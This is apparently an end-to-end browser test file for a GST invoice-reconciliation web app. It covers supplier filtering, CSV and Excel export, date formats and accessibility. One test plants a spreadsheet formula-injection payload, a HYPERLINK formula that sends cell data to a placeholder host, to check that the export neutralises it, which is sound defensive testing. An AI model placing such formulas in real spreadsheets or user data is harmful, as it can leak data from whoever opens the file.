// Browser tests of issue 14's "still CLI-only" and "polish" points on the Records and Reconcile
// pages: the type-ahead supplier filter, the export of the grid's current view to CSV and .xlsx,
// periods in words, reason codes in words. The real `gst-ims serve` (built binary, port 0, a temp
// demo workspace) driven by playwright-core through the system's Chromium.
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { BrowserContext, Page } from 'playwright-core';
import { chromium } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MATCH_REASON_CODES } from '../../packages/gst-ims/src/core/vocabulary/match-reasons.js';
import { csvCell } from '../../packages/gst-ims/src/io/csv-cell.js';
import type { RecordsPayload } from '../../packages/gst-ims/src/server/api-types.js';
import { FLAG } from '../../packages/gst-ims/src/server/api-types.js';
import { neutraliseFormula, plainRupees, viewCsv } from '../../packages/web/src/view-table.js';
import { CHROMIUM_ARGS } from '../../scripts/find-chromium.mjs';
import {
  CHROMIUM,
  REQUIRED,
  SHOTS,
  WEB_DIST,
  startServe,
  warnIfNoChromium,
  axeViolations,
  stopServe,
} from '../support/e2e.js';

warnIfNoChromium('POLISH BROWSER TESTS');

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const FORMULA = '=HYPERLINK("http://example.invalid/?d="&A1,"click")';

describe("the web's CSV cells follow the engine's formula rule", () => {
  const samples = [
    '=1+2',
    '+91 98',
    '-12.50',
    '@SUM(A1)',
    '\tx',
    '\rx',
    '\uff1dcmd',
    'plain',
    'Shree Sai Traders',
    'a=b',
    '',
    '12,34',
    ' lead',
    'say "hi"',
  ];
  it('neutralises exactly what io/csv-cell.ts neutralises, and quotes the same', () => {
    for (const s of samples) {
      const t = { columns: [{ header: 'h', kind: 'text' as const }], rows: [[s]] };
      const line = viewCsv(t)
        .replace(/^\ufeff/, '')
        .split('\r\n')[1];
      expect([s, line]).toEqual([s, csvCell(s)]);
      expect(neutraliseFormula(s).startsWith("'")).toBe(
        csvCell(s).replace(/^"/, '').startsWith("'"),
      );
    }
  });
  it('writes amounts as plain rupees and dates as DD-MM-YYYY', () => {
    expect([plainRupees(0), plainRupees(5), plainRupees(-123456), plainRupees(1234567890)]).toEqual(
      ['0.00', '0.05', '-1234.56', '12345678.90'],
    );
    const csv = viewCsv({
      columns: [
        { header: 'Value ₹', kind: 'money' },
        { header: 'Doc date', kind: 'date' },
      ],
      rows: [
        [-1050, '2026-10-03'],
        [null, null],
      ],
    });
    expect(csv).toBe('\ufeffValue ₹,Doc date\r\n-10.50,03-10-2026\r\n,\r\n');
  });
});

interface ApiRecord {
  key: string;
  section: string;
  gstin: string;
  name: string;
  docNumber: string;
  docDate: string;
  returnPeriod: string | null;
  value: number;
  flags: number;
  portalAction: string;
}

async function apiRecords(page: Page): Promise<ApiRecord[]> {
  const p = await page.evaluate(
    () => fetch('/api/records').then((r) => r.json()) as Promise<RecordsPayload>,
  );
  return p.rows.map((t) => ({
    key: t[0],
    section: t[1],
    gstin: p.suppliers[t[2]]?.[0] ?? '',
    name: p.suppliers[t[2]]?.[1] ?? '',
    docNumber: t[3],
    docDate: t[4],
    returnPeriod: t[7],
    value: t[9],
    flags: t[19],
    portalAction: t[15],
  }));
}

async function waitForCounts(page: Page, text: string): Promise<void> {
  await page.waitForFunction(
    (t) => document.querySelector('[data-testid=grid-counts]')?.textContent?.includes(t) ?? false,
    text,
    { timeout: 20_000 },
  );
}

const shownCount = async (page: Page): Promise<number> =>
  Number(
    /Showing ([\d,]+)/
      .exec(await page.locator('[data-testid=grid-counts]').innerText())?.[1]
      ?.replace(/,/g, ''),
  );

const rupees = (paise: number): string => (paise / 100).toFixed(2);
const ddmmyyyy = (iso: string): string => iso.split('-').reverse().join('-');

describe.skipIf(CHROMIUM === null && !REQUIRED)(
  'Records and Reconcile polish in Chromium (gst-ims serve on a demo workspace)',
  () => {
    const dir = mkdtempSync(join(tmpdir(), 'gst-ims-e2e-polish-'));
    let serve: Awaited<ReturnType<typeof startServe>>;
    let browser: BrowserContext;
    let page: Page;
    let records: ApiRecord[] = [];
    /** The supplier the filter tests pick: several records, a name with a word to type. */
    let pick: { gstin: string; name: string; word: string; n: number };
    let formulaKey = '';

    beforeAll(async () => {
      if (CHROMIUM === null)
        throw new Error('GST_IMS_REQUIRE_BROWSER=1 but no Chromium was found: install chromium');
      if (!existsSync(WEB_DIST))
        throw new Error('the web app is not built: run npm run build first (npm test does)');
      mkdirSync(SHOTS, { recursive: true });
      serve = await startServe(dir, join(dir, 'ws.sqlite'));
      browser = await chromium.launchPersistentContext(join(dir, 'profile'), {
        executablePath: CHROMIUM,
        headless: true,
        args: CHROMIUM_ARGS,
        viewport: { width: 1440, height: 900 },
        acceptDownloads: true,
        // axe-core goes in as a script tag, which the app's Content-Security-Policy would refuse.
        bypassCSP: true,
        // Not en-IN: the app's formats must not come from the browser's locale.
        locale: 'en-US',
        timezoneId: 'Asia/Kolkata',
      });
      page = browser.pages()[0] ?? (await browser.newPage());
      page.setDefaultTimeout(20_000);
      await page.goto(serve.url);
      records = await apiRecords(page);
      const bySupplier = new Map<string, ApiRecord[]>();
      for (const r of records) bySupplier.set(r.gstin, [...(bySupplier.get(r.gstin) ?? []), r]);
      const candidates = [...bySupplier.values()]
        .filter((rs) => rs.length >= 3 && /[A-Za-z]{4,}/.test(rs[0]!.name))
        .map((rs) => {
          const first = rs[0]!;
          // The name's longest word: typed in lower case, it must still find the supplier.
          const word = [...first.name.split(/\W+/)].sort((a, b) => b.length - a.length)[0]!;
          return { gstin: first.gstin, name: first.name, word, n: rs.length };
        });
      expect(candidates.length).toBeGreaterThan(0);
      pick = candidates[0]!;
      // A remark someone typed that a spreadsheet would run: the export must not let it.
      const target = bySupplier
        .get(pick.gstin)!
        .find((r) => r.section === 'b2b' && (r.flags & (FLAG.gone | FLAG.remarksBlocked)) === 0);
      expect(target).toBeDefined();
      formulaKey = target!.key;
      const status = await page.evaluate(
        async ([key, remark]) => {
          const token =
            document.querySelector('meta[name="gst-ims-token"]')?.getAttribute('content') ?? '';
          const r = await fetch('/api/decide', {
            method: 'POST',
            headers: { 'content-type': 'application/json', 'x-gst-ims-token': token },
            body: JSON.stringify({ keys: [key], verb: 'reject', remark }),
          });
          return `${r.status} ${await r.text()}`;
        },
        [formulaKey, FORMULA] as const,
      );
      expect(status).toMatch(/^200 /);
    }, 120_000);

    afterAll(async () => {
      await browser?.close();
      if (serve) {
        const exited = stopServe(serve);
        await exited;
      }
      rmSync(dir, { recursive: true, force: true });
    });

    // Runs first: the period switcher as a new user meets it, before anyone chose a period.
    it('opens on the period the records are in, not on the nearly empty newest one; the pages agree', async () => {
      await page.goto(serve.url);
      await page.getByText('Records by section and decision').waitFor();
      const api = await page.evaluate(
        () =>
          fetch('/api/periods').then((r) => r.json()) as Promise<{
            periods: string[];
            current: string | null;
          }>,
      );
      const chosen = await page.evaluate(() =>
        Object.keys(localStorage).filter((k) => k.startsWith('gst-ims.period.')),
      );
      expect(chosen).toEqual([]);
      // The demo's return periods: the one most records carry is the one to work on.
      const perPeriod = new Map<string, number>();
      for (const r of records)
        if (r.returnPeriod !== null)
          perPeriod.set(r.returnPeriod, (perPeriod.get(r.returnPeriod) ?? 0) + 1);
      const busiest = [...perPeriod].sort((a, b) => b[1] - a[1])[0]![0];
      expect(busiest).toBe('102026');
      expect(api.current).toBe(busiest);
      // The newest period is another (a few GSTR-1A records that reach the next month's 2B).
      expect(api.periods[0]).not.toBe(busiest);
      const switcher = page.getByTestId('period-switcher');
      await expect(switcher.inputValue()).resolves.toBe(busiest);
      await expect(switcher.locator('option:checked').innerText()).resolves.toBe('Oct 2026');
      await page
        .getByTestId('dashboard-cards')
        .getByText('GSTR-2B of Oct 2026 generated')
        .waitFor();
      await page.getByRole('link', { name: 'Reconcile' }).click();
      await page
        .locator('.reconcile .page-head')
        .getByText(/IMS period Oct 2026/)
        .waitFor({ timeout: 60_000 });
      await expect(switcher.inputValue()).resolves.toBe(busiest);
    });

    it('finds a supplier by a word of its name or a part of its GSTIN, by keyboard', async () => {
      await page.goto(`${serve.url}records`);
      await waitForCounts(page, 'Showing 1,500 of 1,500 records');
      const box = page.getByRole('combobox', { name: /Supplier/ });
      const suppliers = new Set(records.map((r) => r.gstin)).size;
      await expect(box.getAttribute('placeholder')).resolves.toBe(
        `All suppliers (${suppliers.toLocaleString('en-IN')})`,
      );
      await box.click();
      await box.fill(pick.word.toLowerCase());
      const options = page.locator('[data-testid=supplier-options] [role=option]');
      await expect(box.getAttribute('aria-expanded')).resolves.toBe('true');
      // Option 0 is "All suppliers"; every other one holds the word typed.
      const texts = await options.allInnerTexts();
      expect(texts[0]).toMatch(/^All suppliers/);
      expect(texts.length).toBeGreaterThan(1);
      for (const t of texts.slice(1)) expect(t.toUpperCase()).toContain(pick.word.toUpperCase());
      expect(texts.some((t) => t.includes(pick.gstin))).toBe(true);
      await page.screenshot({ path: join(SHOTS, 'polish-supplier-combobox.png') });

      // A part of the GSTIN, then Enter: the first match is taken.
      await box.fill(pick.gstin.slice(2, 12));
      const first = await options.nth(1).innerText();
      expect(first).toContain(pick.gstin);
      await box.press('Enter');
      await expect(box.getAttribute('aria-expanded')).resolves.toBe('false');
      await expect(box.inputValue()).resolves.toBe(`${pick.name} · ${pick.gstin}`);
      await waitForCounts(page, `Showing ${pick.n.toLocaleString('en-IN')} of 1,500 records`);
      const gstins = await page
        .locator('.ag-center-cols-container .ag-cell[col-id="supplierGstin"]')
        .allInnerTexts();
      expect(new Set(gstins)).toEqual(new Set([pick.gstin]));

      // Esc closes the list and keeps the filter; the x button clears it.
      await box.fill('zzzz-no-such-supplier');
      await page.getByText('No supplier matches').waitFor();
      await box.press('Escape');
      await expect(box.inputValue()).resolves.toBe(`${pick.name} · ${pick.gstin}`);
      expect(await shownCount(page)).toBe(pick.n);
      await page.getByRole('button', { name: 'All suppliers' }).click();
      await waitForCounts(page, 'Showing 1,500 of 1,500 records');

      // Arrow keys walk the list (round to "All suppliers" and back); Enter takes the active one.
      await box.fill(pick.word);
      await box.press('ArrowUp');
      await expect(box.getAttribute('aria-activedescendant')).resolves.toBe(
        await options.nth(0).getAttribute('id'),
      );
      await box.press('ArrowDown');
      await expect(box.getAttribute('aria-activedescendant')).resolves.toBe(
        await options.nth(1).getAttribute('id'),
      );
      const chosen = /(\w{15})\s*\(/.exec(await options.nth(1).innerText())?.[1];
      expect(chosen).toBeDefined();
      await box.press('Enter');
      await expect(box.inputValue()).resolves.toContain(chosen!);
    });

    it('opens the Records page filtered to a supplier from ?supplier=', async () => {
      await page.goto(`${serve.url}records?supplier=${pick.gstin}`);
      await waitForCounts(page, `Showing ${pick.n.toLocaleString('en-IN')} of 1,500 records`);
      await expect(page.locator('#supplier-filter').inputValue()).resolves.toContain(pick.gstin);
    });

    it('exports the view as shown (supplier filter and search applied) to CSV, formulas neutralised', async () => {
      await page.goto(`${serve.url}records?supplier=${pick.gstin}`);
      await waitForCounts(page, `Showing ${pick.n.toLocaleString('en-IN')} of 1,500 records`);
      const [download] = await Promise.all([
        page.waitForEvent('download'),
        page.getByRole('button', { name: 'Export CSV' }).click(),
      ]);
      expect(download.suggestedFilename()).toMatch(/^records-\w{15}-\d{4}-\d{2}-\d{2}\.csv$/);
      const text = readFileSync(await download.path(), 'utf8');
      expect(text.startsWith('\ufeff')).toBe(true);
      const table: string[][] = parse(text.slice(1));
      const [header, ...rows] = table;
      // The columns shown by default, in the grid's order (the pinned ones at the right end).
      expect(header).toEqual([
        'Section',
        'Supplier GSTIN',
        'Supplier',
        'Doc no.',
        'Doc date',
        'Match',
        'Value ₹',
        'Taxable ₹',
        'IGST ₹',
        'CGST ₹',
        'SGST ₹',
        'Portal holds',
        'Remark',
        'Your decision',
        'Status',
      ]);
      expect(rows.length).toBe(pick.n);
      const col = (h: string): number => header!.indexOf(h);
      expect(new Set(rows.map((r) => r[col('Supplier GSTIN')]))).toEqual(new Set([pick.gstin]));
      const mine = records.filter((r) => r.gstin === pick.gstin);
      expect(rows.map((r) => r[col('Value ₹')]).sort()).toEqual(
        mine.map((r) => rupees(r.value)).sort(),
      );
      expect(rows.map((r) => r[col('Doc date')]).sort()).toEqual(
        mine.map((r) => ddmmyyyy(r.docDate)).sort(),
      );
      const target = records.find((r) => r.key === formulaKey)!;
      const row = rows.find((r) => r[col('Doc no.')] === target.docNumber);
      expect(row?.[col('Remark')]).toBe(`'${FORMULA}`);

      // A search narrows the export to what it shows.
      await page.fill('#quick-search', target.docNumber);
      await page.waitForFunction(
        (n) =>
          !document
            .querySelector('[data-testid=grid-counts]')
            ?.textContent?.includes(`Showing ${n} `),
        pick.n.toLocaleString('en-IN'),
      );
      const shown = await shownCount(page);
      const [again] = await Promise.all([
        page.waitForEvent('download'),
        page.getByRole('button', { name: 'Export CSV' }).click(),
      ]);
      const narrowed: string[][] = parse(readFileSync(await again.path(), 'utf8').slice(1));
      expect(narrowed.length - 1).toBe(shown);
      expect(narrowed.slice(1).every((r) => r[col('Doc no.')]!.includes(target.docNumber))).toBe(
        true,
      );
      await page
        .locator('.toast')
        .getByText(`Exported ${shown} record${shown === 1 ? '' : 's'} as shown to CSV.`)
        .waitFor();
    });

    it('exports the view to .xlsx: amounts as numbers in #,##,##0.00, dates as dates', async () => {
      await page.goto(`${serve.url}records?supplier=${pick.gstin}`);
      await waitForCounts(page, `Showing ${pick.n.toLocaleString('en-IN')} of 1,500 records`);
      const [download] = await Promise.all([
        page.waitForEvent('download', { timeout: 60_000 }),
        page.getByRole('button', { name: 'Export .xlsx' }).click(),
      ]);
      expect(download.suggestedFilename()).toMatch(/\.xlsx$/);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.readFile(await download.path());
      const ws = wb.getWorksheet('Records')!;
      const header = (ws.getRow(1).values as unknown[]).slice(1) as string[];
      const col = (h: string): number => header.indexOf(h) + 1;
      expect(col('Value ₹')).toBeGreaterThan(0);
      expect(ws.rowCount - 1).toBe(pick.n);
      const values: number[] = [];
      for (let i = 2; i <= ws.rowCount; i++) {
        const row = ws.getRow(i);
        expect(row.getCell(col('Supplier GSTIN')).value).toBe(pick.gstin);
        const v = row.getCell(col('Value ₹'));
        expect(typeof v.value).toBe('number');
        expect(v.numFmt).toBe('#,##,##0.00');
        values.push(v.value as number);
        const d = row.getCell(col('Doc date'));
        expect(d.value).toBeInstanceOf(Date);
        expect(d.numFmt).toBe('dd-mm-yyyy');
      }
      const mine = records.filter((r) => r.gstin === pick.gstin);
      expect(values.map((v) => v.toFixed(2)).sort()).toEqual(
        mine.map((r) => rupees(r.value)).sort(),
      );
    });

    it('shows return periods as "Oct 2026", not 102026', async () => {
      await page.goto(`${serve.url}records`);
      await waitForCounts(page, 'Showing 1,500 of 1,500 records');
      await page.getByRole('button', { name: /^Columns/ }).click();
      await page
        .locator('.chooser label')
        .filter({ hasText: 'Return period' })
        .locator('input')
        .check();
      await page.evaluate(() =>
        (
          window as unknown as { __gstImsGrid: { ensureColumnVisible(c: string): void } }
        ).__gstImsGrid.ensureColumnVisible('returnPeriod'),
      );
      await page
        .locator('.ag-center-cols-container .ag-cell[col-id="returnPeriod"]')
        .first()
        .waitFor();
      const cells = await page
        .locator('.ag-center-cols-container .ag-cell[col-id="returnPeriod"]')
        .allInnerTexts();
      const periods = new Set(
        records.map((r) => r.returnPeriod).filter((p): p is string => p !== null),
      );
      expect(periods.size).toBeGreaterThan(0);
      const words = [...periods].map((p) => `${MONTHS[Number(p.slice(0, 2)) - 1]} ${p.slice(2)}`);
      expect(cells.some((c) => c !== '')).toBe(true);
      for (const c of cells) if (c !== '') expect(words).toContain(c);
      await page.evaluate(() => localStorage.removeItem('gst-ims.records.columns.v1'));
    });

    it('takes dates as DD-MM-YYYY in the date filters, in a browser set to en-US', async () => {
      await page.goto(`${serve.url}records`);
      await waitForCounts(page, 'Showing 1,500 of 1,500 records');
      // The day most records carry: typed as DD-MM-YYYY, the grid shows exactly those.
      const perDay = new Map<string, number>();
      for (const r of records) perDay.set(r.docDate, (perDay.get(r.docDate) ?? 0) + 1);
      const [day, n] = [...perDay].sort((a, b) => b[1] - a[1])[0]!;
      const box = page.getByPlaceholder('DD-MM-YYYY').first();
      await expect(box.getAttribute('type')).resolves.toBe('text');
      await box.fill(ddmmyyyy(day));
      await waitForCounts(page, `Showing ${n.toLocaleString('en-IN')} of 1,500 records`);
      const dates = await page
        .locator('.ag-center-cols-container .ag-cell[col-id="docDate"]')
        .allInnerTexts();
      expect(new Set(dates)).toEqual(new Set([ddmmyyyy(day)]));
      await page.screenshot({ path: join(SHOTS, 'polish-date-filter.png') });
      // The same day written the American way is no date here: marked, and it filters nothing.
      const [y, m, d] = day.split('-');
      await box.fill(`${m}-${d}-${y}`);
      if (Number(d) > 12) {
        await expect(box.getAttribute('aria-invalid')).resolves.toBe('true');
        await waitForCounts(page, 'Showing 1,500 of 1,500 records');
      }
      await box.fill('31-02-2026');
      await expect(box.getAttribute('aria-invalid')).resolves.toBe('true');
      await waitForCounts(page, 'Showing 1,500 of 1,500 records');
      await box.fill('');
      await expect(box.getAttribute('aria-invalid')).resolves.toBe('false');
    });

    it("gives the upload files' sizes in KB or MB, grouped", async () => {
      await page.goto(`${serve.url}upload`);
      await page.getByTestId('generate-upload').click();
      const files = page.getByTestId('upload-files');
      await files.waitFor();
      const item = files.locator('li').first();
      const [download] = await Promise.all([
        page.waitForEvent('download'),
        item.getByRole('link').click(),
      ]);
      const bytes = readFileSync(await download.path()).length;
      const expected =
        bytes < 1024
          ? `${bytes.toLocaleString('en-IN')} bytes`
          : bytes < 1024 * 1024
            ? `${(bytes / 1024).toLocaleString('en-IN', { minimumFractionDigits: 1, maximumFractionDigits: 1 })} KB`
            : `${(bytes / 1048576).toLocaleString('en-IN', { minimumFractionDigits: 1, maximumFractionDigits: 1 })} MB`;
      await expect(item.innerText()).resolves.toContain(expected);
    });

    it('lists every supplier with its counts and ITC, and opens its records from the GSTIN', async () => {
      await page.goto(serve.url);
      await page.getByRole('link', { name: 'Suppliers' }).click();
      await page.getByRole('tab', { name: 'All periods' }).click();
      const gstins = new Set(records.map((r) => r.gstin));
      await page
        .getByTestId('supplier-counts')
        .getByText(`${gstins.size} of ${gstins.size} suppliers · 1,500 records`)
        .waitFor();
      const api = await page.evaluate(
        () =>
          fetch('/api/suppliers').then((r) => r.json()) as Promise<
            { supplierGstin: string; netAvailable: { total: number }; count: number }[]
          >,
      );
      const mine = api.find((s) => s.supplierGstin === pick.gstin)!;
      expect(mine.count).toBe(pick.n);
      // Found by its GSTIN; its row shows its counts and net ITC as on screen elsewhere.
      await page.getByRole('searchbox', { name: 'Find a supplier' }).fill(pick.gstin.toLowerCase());
      await page
        .getByTestId('supplier-counts')
        .getByText(`1 of ${gstins.size} suppliers`)
        .waitFor();
      await page.waitForFunction(
        () =>
          document.querySelectorAll('.suppliers-grid .ag-center-cols-container .ag-row').length ===
          1,
      );
      const row = page.locator('.suppliers-grid .ag-center-cols-container .ag-row').first();
      await expect(row.locator('[col-id="gstin"]').innerText()).resolves.toBe(pick.gstin);
      await expect(row.locator('[col-id="records"]').innerText()).resolves.toBe(String(pick.n));
      const net = mine.netAvailable.total;
      const inr = (p: number): string => {
        const [w, f] = (Math.abs(p) / 100).toFixed(2).split('.');
        const last3 = w!.slice(-3);
        const rest = w!.slice(0, -3).replace(/\B(?=(\d{2})+(?!\d))/g, ',');
        return `${p < 0 ? '-' : ''}${rest ? `${rest},` : ''}${last3}.${f}`;
      };
      await expect(row.locator('[col-id="net"]').innerText()).resolves.toBe(inr(net));
      await page.screenshot({ path: join(SHOTS, 'polish-suppliers.png') });
      await row.locator('[col-id="gstin"] a').click();
      await page.waitForURL(/\/records\?supplier=/);
      await waitForCounts(page, `Showing ${pick.n.toLocaleString('en-IN')} of 1,500 records`);
      await expect(page.locator('#supplier-filter').inputValue()).resolves.toContain(pick.gstin);
    });

    it('shows match reasons in words, never as codes, on the Reconcile page and in the record panel', async () => {
      // The codes that are no English word (dateDiff, numberExact, in2b ...): none may show.
      const codes = MATCH_REASON_CODES.filter((c) => /[A-Z0-9]/.test(c));
      const code = new RegExp(`\\b(${codes.join('|')})\\b`);
      await page.goto(`${serve.url}reconcile`);
      const tabs = page.locator('.reconcile .views');
      await tabs.getByText(/^Mismatch \([\d,]+\)$/).waitFor({ timeout: 60_000 });
      await tabs.getByText(/^Mismatch/).click();
      await page.waitForFunction(() => {
        const cells = [
          ...document.querySelectorAll(
            '.reconcile-grid .ag-center-cols-container .ag-cell[col-id="outcome"]',
          ),
        ];
        return cells.length > 0 && cells.every((c) => c.textContent === 'Mismatch');
      });
      const reasons = await page
        .locator('.reconcile-grid .ag-center-cols-container .ag-cell[col-id="reasons"]')
        .allInnerTexts();
      expect(reasons.length).toBeGreaterThan(0);
      for (const r of reasons) {
        expect(r.trim()).not.toBe('');
        expect([r, code.test(r)]).toEqual([r, false]);
      }

      await page.goto(`${serve.url}records?view=all`);
      await waitForCounts(page, 'Showing 1,500 of 1,500 records');
      await page.fill('#quick-search', 'mismatch');
      await page.waitForFunction(
        () =>
          !document
            .querySelector('[data-testid=grid-counts]')
            ?.textContent?.includes('Showing 1,500'),
      );
      await page.locator('.ag-center-cols-container .ag-cell[col-id="docNumber"]').first().click();
      const panel = page.getByTestId('reconciliation');
      await panel.locator('.reasons li').first().waitFor();
      const items = await panel.locator('.reasons li').allInnerTexts();
      for (const r of items) expect([r, code.test(r)]).toEqual([r, false]);
    });

    it('is clean under axe-core: the Suppliers page, the supplier list open, a date typed', async () => {
      const found: string[] = [];
      await page.goto(`${serve.url}suppliers`);
      await page
        .getByTestId('supplier-counts')
        .getByText(/ suppliers · /)
        .waitFor();
      found.push(...(await axeViolations(page)).map((v) => `suppliers: ${v}`));
      await page.goto(`${serve.url}records`);
      await waitForCounts(page, 'Showing 1,500 of 1,500 records');
      await page.getByPlaceholder('DD-MM-YYYY').first().fill('31-02-2026');
      const box = page.getByRole('combobox', { name: /Supplier/ });
      await box.fill(pick.word);
      await page.locator('[data-testid=supplier-options]').waitFor();
      found.push(...(await axeViolations(page)).map((v) => `records, list open: ${v}`));
      expect(found).toEqual([]);
    });

    /** Every page the top bar links to, as it is now (pages others add are included). */
    const navPages = async (): Promise<{ name: string; href: string }[]> =>
      page.evaluate(() =>
        [...document.querySelectorAll<HTMLAnchorElement>('.topbar nav a')].map((a) => ({
          name: a.textContent?.trim() ?? '',
          href: a.getAttribute('href') ?? '',
        })),
      );

    /** Opens a page from the top bar and waits until it has loaded what it shows. */
    async function openPage(name: string): Promise<void> {
      await page.getByRole('link', { name, exact: true }).click();
      // A page loading shows a .loading line or a grid's loading overlay (ag-grid keeps a hidden
      // "Loading..." for screen readers all the time, so visible ones only).
      const state = () =>
        page.evaluate(() => {
          const shown = (sel: string): string | null =>
            [...document.querySelectorAll<HTMLElement>(sel)]
              .filter((e) => e.checkVisibility())
              .map((e) => e.innerText)[0] ?? null;
          return {
            loading: shown('main .loading'),
            overlay: shown('main .ag-overlay-loading-center'),
            counts: /Loading/.test(shown('[data-testid=supplier-counts]') ?? '') ? 'Loading' : null,
          };
        });
      const until = Date.now() + 60_000;
      let s = await state();
      while (s.loading !== null || s.overlay !== null || s.counts !== null) {
        if (Date.now() > until) throw new Error(`${name} did not load: ${JSON.stringify(s)}`);
        await page.waitForTimeout(200);
        s = await state();
      }
      if (name === 'Records') await waitForCounts(page, 'of 1,500 records');
      await page.waitForTimeout(300);
    }

    it('writes a screenshot of every page at 1440x900 and 1024x768, axe-clean at both sizes', async () => {
      await page.goto(serve.url);
      await page.getByText('Records by section and decision').waitFor();
      const pages = await navPages();
      // The pages the README lists, at least; History and Excel when their engineers add them.
      for (const want of [
        'Dashboard',
        'Records',
        'Suppliers',
        'Reconcile',
        'Month',
        'Import',
        'Upload',
      ])
        expect(pages.map((p) => p.name)).toContain(want);
      const found: string[] = [];
      const written: string[] = [];
      for (const size of [
        { width: 1440, height: 900 },
        { width: 1024, height: 768 },
      ]) {
        await page.setViewportSize(size);
        for (const p of pages) {
          await openPage(p.name);
          const file = join(
            SHOTS,
            `page-${p.name.toLowerCase().replace(/\W+/g, '-')}-${size.width}x${size.height}.png`,
          );
          await page.screenshot({ path: file });
          written.push(file);
          const overflow = await page.evaluate(
            () => document.documentElement.scrollWidth - window.innerWidth,
          );
          expect([p.name, size.width, overflow]).toEqual([p.name, size.width, 0]);
          // Every page's link shows whole in the top bar: none cut off or scrolled away.
          const cut = await page.evaluate(() => {
            const nav = document.querySelector('.topbar nav')!;
            const box = nav.getBoundingClientRect();
            return [...nav.querySelectorAll('a')]
              .filter((a) => {
                const r = a.getBoundingClientRect();
                return r.left < box.left - 0.5 || r.right > box.right + 0.5;
              })
              .map((a) => a.textContent);
          });
          expect([p.name, size.width, cut]).toEqual([p.name, size.width, []]);
          found.push(...(await axeViolations(page)).map((v) => `${p.name} at ${size.width}: ${v}`));
        }
      }
      await page.setViewportSize({ width: 1440, height: 900 });
      expect(found).toEqual([]);
      for (const f of written) expect([f, existsSync(f)]).toEqual([f, true]);
      expect(written.length).toBe(pages.length * 2);
    }, 300_000);

    it('offers a skip link first in the Tab order: to the grid on Records, to the content elsewhere', async () => {
      await page.goto(`${serve.url}records`);
      await waitForCounts(page, 'of 1,500 records');
      // As a person does: the rows are on the screen before the skip link is taken to them.
      await page.locator('.ag-center-cols-container .ag-row[row-index="0"]').first().waitFor();
      await page.keyboard.press('Tab');
      const skip = await page.evaluate(() => {
        const a = document.activeElement as HTMLElement;
        const r = a.getBoundingClientRect();
        return { cls: a.className, text: a.textContent, top: r.top, height: r.height };
      });
      expect(skip.cls).toBe('skip-link');
      expect(skip.text).toBe('Skip to the grid');
      // Shown while focused: inside the window, not parked above it.
      expect(skip.top).toBeGreaterThanOrEqual(0);
      expect(skip.height).toBeGreaterThan(0);
      await page.keyboard.press('Enter');
      // The grid takes the focus on its next frame: ask until it has.
      await expect
        .poll(
          () =>
            page.evaluate(() => ({
              row: document.activeElement?.closest('.ag-row')?.getAttribute('row-index') ?? null,
              cell: document.activeElement?.classList.contains('ag-cell') ?? false,
            })),
          { timeout: 10_000 },
        )
        .toEqual({ row: '0', cell: true });
      // From the grid, the keyboard works the rows: Down moves to the next one.
      await page.keyboard.press('ArrowDown');
      await expect(
        page.evaluate(
          () => document.activeElement?.closest('.ag-row')?.getAttribute('row-index') ?? null,
        ),
      ).resolves.toBe('1');

      await page.goto(serve.url);
      await page.getByText('Records by section and decision').waitFor();
      await page.keyboard.press('Tab');
      await expect(page.evaluate(() => document.activeElement?.textContent)).resolves.toBe(
        'Skip to the content',
      );
      await page.keyboard.press('Enter');
      await expect(page.evaluate(() => document.activeElement?.id)).resolves.toBe('main');
      // The next Tabs walk the Dashboard's cards, every one of them, and Enter opens the page
      // behind the one focused.
      // The supplier-side tile arrives on a request of its own: count the cards once it is
      // there (counted before it, the walk reached a seventh card the count did not know).
      await page.getByTestId('outward-tile').waitFor();
      const cards = await page.locator('main .cards .card').count();
      expect(cards).toBeGreaterThanOrEqual(7);
      const reached: string[] = [];
      for (let k = 0; k < cards; k++) {
        await page.keyboard.press('Tab');
        reached.push(
          await page.evaluate(() => {
            const a = document.activeElement as HTMLElement;
            return a.classList.contains('card')
              ? (a.querySelector('.card-title')?.textContent ?? '')
              : `not a card: ${a.tagName}`;
          }),
        );
      }
      expect(reached).toEqual(
        await page.locator('main .cards .card .card-title').allTextContents(),
      );
      await page.getByRole('button', { name: /Waiting for upload/i }).focus();
      await page.keyboard.press('Enter');
      await page.waitForURL(/\/upload$/);
    });

    it('rings the focused top-bar link or control so it can be seen on the dark bar', async () => {
      await page.goto(serve.url);
      await page.getByText('Records by section and decision').waitFor();
      const controls = page.locator('.topbar a, .topbar button, .topbar select');
      const n = await controls.count();
      expect(n).toBeGreaterThanOrEqual(7);
      // Tab from the skip link walks the top bar; each stop shows a ring of its own colour.
      await page.keyboard.press('Tab');
      const rings: { text: string; ring: string }[] = [];
      for (let i = 0; i < n; i++) {
        await page.keyboard.press('Tab');
        rings.push(
          await page.evaluate(() => {
            const a = document.activeElement as HTMLElement;
            const s = getComputedStyle(a);
            return {
              text: `${a.tagName} ${a.textContent?.trim().slice(0, 20) ?? ''} ${a.closest('.topbar') ? '' : '(outside the top bar)'}`,
              ring:
                s.outlineStyle !== 'none' && parseFloat(s.outlineWidth) >= 2 ? s.outlineColor : '',
            };
          }),
        );
      }
      const inBar = rings.filter((r) => !r.text.includes('outside'));
      expect(inBar.length).toBeGreaterThanOrEqual(n - 1);
      for (const r of inBar) expect([r.text, r.ring]).not.toEqual([r.text, '']);
    });
  },
);
